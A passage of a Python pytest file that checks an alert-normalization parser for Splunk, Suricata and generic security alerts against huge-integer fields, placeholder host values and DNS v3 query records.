            payload = load(kind, name)
            payload[key] = value
            assert_alerts_or_normalization_error(kind, payload)


@pytest.mark.parametrize("field", ["severity", "occurred_at", "source_ref", "description"])
def test_generic_huge_ints(field):
    payload = load("generic", "basic")
    payload[field] = -(10**5000) if field != "severity" else 10**400
    assert_alerts_or_normalization_error("generic", payload)


def test_placeholder_hosts_are_not_entities():
    payload = {"sid": "s2", "search_name": "Odd host", "result": {"host": "N/A", "dest": "unknown", "user": "eve"}}
    alert = parse_payload("splunk", payload)[0]
    assert (alert.entity_type, alert.entity_value) == ("user", "eve")


def test_suricata_dns_v3_queries():
    payload = load("suricata", "dns_policy")
    payload["dns"] = {"version": 3, "queries": [{"rrname": "v3.tracker.test", "rrtype": "A"}]}
    assert "domain:v3.tracker.test" in {o.key() for o in parse_payload("suricata", payload)[0].observables}


def test_splunk_result_row_with_huge_int_and_no_cd_is_not_a_crash():
    # Legal JSON (json.loads makes the int); the result digest used for identity must not raise ValueError.
    payload = {"sid": "s3", "search_name": "Big count", "result": {"count": 10**5000}}
    assert_alerts_or_normalization_error("splunk", payload)
